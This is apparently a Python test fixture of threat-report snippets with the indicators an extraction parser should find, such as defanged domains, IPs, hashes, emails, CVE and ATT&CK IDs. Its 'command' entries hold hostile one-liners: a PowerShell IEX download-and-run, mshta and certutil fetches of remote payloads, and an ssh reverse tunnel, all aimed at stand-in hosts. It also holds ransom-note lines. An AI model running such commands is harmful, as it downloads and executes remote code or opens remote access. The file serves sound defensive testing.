"""Lines as vendors, authorities and crews write them, with the indicators that an analyst takes from them."""

from __future__ import annotations

from typing import Final

from tests.ingest.indicators.snippets import ARTICLE, DISARMING_ARTICLE, MD5, SHA1, SHA256, S

VENDOR_SNIPPETS: Final = (
    # --- lists of vendors
    S(
        "vendor list",
        "- 203.0.113[.]8 port 443 - www.gale-post[.]com - HTTPS traffic",
        "ip 203.0.113.8",
        "domain www.gale-post.com",
    ),
    S("vendor list", "SHA256 hash: " + SHA256 + "\nFile size: 61,204 bytes", f"hash_sha256 {SHA256}"),
    S("vendor list", f"{SHA256},invoice.js,203.0.113.8", f"hash_sha256 {SHA256}", "ip 203.0.113.8"),
    S("vendor list", f'"sha1":"{SHA1}","md5":"{MD5}"', f"hash_sha1 {SHA1}", f"hash_md5 {MD5}"),
    S("vendor list", f"SHA1={SHA1.upper()},IMPHASH={MD5.upper()}", f"hash_sha1 {SHA1}"),
    S("vendor list", f'rule x {{ meta: hash = "{SHA256}" }}', f"hash_sha256 {SHA256}"),
    S("vendor list", "gale-post[.]com (203.0.113[.]8)", "domain gale-post.com", "ip 203.0.113.8"),
    S("vendor list", "gale-post[.]com:8443", "domain gale-post.com"),
    S(
        "vendor list",
        "C2: 203.0.113[.]8:443, 203.0.113[.]9:443; 203.0.113[.]10",
        "ip 203.0.113.8",
        "ip 203.0.113.9",
        "ip 203.0.113.10",
    ),
    S("vendor list", '{"domain": "gale-post.com", "port": 443}', "domain gale-post.com"),
    S("vendor list", "||gale-post.com^\n||mist-post.ru^", "domain gale-post.com", "domain mist-post.ru"),
    S("vendor list", "[.]gale-post[.]com and all below it", "domain gale-post.com"),
    # --- e-mail
    S("headers", "Return-Path: <bounce@gale-post[.]com>", "email bounce@gale-post.com", "domain gale-post.com"),
    S(
        "headers",
        "From: Billing <pay@gale-post[.]com>, Reply-To: pay.desk[@]proton[.]me",
        "email pay@gale-post.com",
        "domain gale-post.com",
        "email pay.desk@proton.me",
    ),
    # --- commands and logs
    S(
        "command",
        "IEX(New-Object Net.WebClient).DownloadString('hxxp://gale-post[.]com/a.ps1')",
        "url http://gale-post.com/a.ps1",
        "domain gale-post.com",
    ),
    S("command", "mshta.exe hxxps://gale-post[.]com/x.hta", "url https://gale-post.com/x.hta", "domain gale-post.com"),
    S(
        "command",
        "certutil -urlcache -f http://203.0.113.8/n.exe n.exe",
        "url http://203.0.113.8/n.exe",
        "ip 203.0.113.8",
    ),
    S("command", "ssh -R 2222:localhost:22 ops@203.0.113.8", "ip 203.0.113.8"),
    S("command", "reg add HKLM\\Software\\Classes\\.txt /d notepad.exe"),
    S("log", "Apr 17 03:25:44 sshd[88]: Failed password for root from 203.0.113.8 port 51544", "ip 203.0.113.8"),
    S("log", '203.0.113.8 - - [17/Apr/2026:03:14:07 +0200] "GET /a.php HTTP/1.1" 200 4102', "ip 203.0.113.8"),
    S("log", "A,gale-post.com,203.0.113.8,300", "domain gale-post.com", "ip 203.0.113.8"),
    # --- notes of crews
    S(
        "ransom note",
        "Chat: http://shopgale4x.onion/c?id=7 or mail unlock77@cock.li",
        "url http://shopgale4x.onion/c?id=7",
        "domain shopgale4x.onion",
        "email unlock77@cock.li",
    ),
    S("ransom note", "Wallet bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq, id 7F3A-19"),
    # --- markup
    S("markup", "|`++hxxp://gale-post[.]com/x++`|", "url http://gale-post.com/x", "domain gale-post.com"),
    S("markup", "| **gale-post[.]com** | *mist-post[.]ru* |", "domain gale-post.com", "domain mist-post.ru"),
    S("markup", "<li>gale-post[.]com</li><li>mist-post[.]ru</li>", "domain gale-post.com", "domain mist-post.ru"),
    S("markup", "* `gale-post[.]com`: panel", "domain gale-post.com"),
    S("markup", "“gale-post[.]com”, ‘mist-post[.]ru’", "domain gale-post.com", "domain mist-post.ru"),
    # --- rules that decide rarely
    S(
        "among its like",
        DISARMING_ARTICLE + "\nDomains\n\ngale-post.ru\nmisty.host\nfog-post.ru\n",
        "domain panel.orlop-yard.net",
        "domain gale-post.ru",
        "domain misty.host",
        "domain fog-post.ru",
    ),
    S("item", ARTICLE + "\nLast week it was\n- gale-post.com, in use\n", "domain gale-post.com"),
    S("mailbox", ARTICLE + "The letter was signed with clerk7@gale-post.com in March.", "email clerk7@gale-post.com"),
    S(
        "program",
        ARTICLE + "Then http://gale-post.com/a.exe came.",
        "url http://gale-post.com/a.exe",
        "domain gale-post.com",
    ),
    S("readers", ARTICLE + "The press may write to press@gale-post.com for more."),
    S(
        "file beside its hash",
        DISARMING_ARTICLE + f"\nIndicators\n\n{SHA256}  readme.md\n",
        "domain panel.orlop-yard.net",
        f"hash_sha256 {SHA256}",
    ),
    S("decimal", "order=12345678901234567890123456789012"),
    # --- identifiers in odd places
    S("cve", "CVE-2026-12345 (CVSS 9.8), cve_2025_0282.py", "cve CVE-2026-12345", "cve CVE-2025-0282"),
    S(
        "technique",
        "T1059.001/T1027, T1566.001;T1204",
        "mitre_attack T1059.001",
        "mitre_attack T1027",
        "mitre_attack T1566.001",
        "mitre_attack T1204",
    ),
    S("technique", "TA0001 G0010 S0265 M1042 DS0017 and T1000 boxes"),
    S("address", "2001:db8:77:2::53 answered at 09:27:13", "ip 2001:db8:77:2::53"),
    S("no address", "serial 0a:1f:22:9c:11:aa:43:00:be:ef:10:02:93:31:7a:cd"),
    S(
        "malware",
        "Lumma Stealer, RedLine and Vidar were sold there",
        "malware Lumma Stealer",
        "malware RedLine",
        "malware Vidar",
    ),
    S("malware", "ALPHV, also known as BlackCat", "malware ALPHV", "malware BlackCat"),
    S("malware", "net use, reg add, at 5 pm, and ping -n 1"),
    # --- what labelled reports have taught
    S("scheme", "http[s]://gale-post[.]com/x", "url https://gale-post.com/x", "domain gale-post.com"),
    S("dot", "185 [.] 220 [.] 101 [.] 47", "ip 185.220.101.47"),
    S("dot", "panel at gale-post [.] com now", "domain gale-post.com"),
    S("log", "Built connection for outside:203.0.113.196/8443 (203.0.113.196/8443)", "ip 203.0.113.196"),
    S(
        "log",
        "1776 240 TCP_MISS/200 512 POST http://gale-post.com:8080/up/x.7z -",
        "url http://gale-post.com:8080/up/x.7z",
        "domain gale-post.com",
    ),
    S("hash", f"{MD5}MD5dropper {SHA1}SHA1dropper", f"hash_md5 {MD5}", f"hash_sha1 {SHA1}"),
    S("hash", f"JA3                 - {MD5}"),
    S("malware", "They ran a Bumblebee DLL; Bumblebee loaded it", "malware Bumblebee"),
    S("malware", "Androidの場合、MoqHaoに感染します", "malware MoqHao"),
    S(
        "ransom note",
        "Install https://www.torproject.org/download/ first, then open http://shopgale4x.onion/c",
        "url http://shopgale4x.onion/c",
        "domain shopgale4x.onion",
    ),
    S(
        "on a listed host",
        ARTICLE + "A template came from http://gale-post.net/t/a.dotm then.\n\nIndicators\n\ngale-post.net\n",
        "url http://gale-post.net/t/a.dotm",
        "domain gale-post.net",
    ),
    S(
        "article",
        ARTICLE + "It asked 185.22.1.9 by HTTPS (https://cloudflare-dns.com/dns-query).",
        "ip 185.22.1.9",
    ),
)
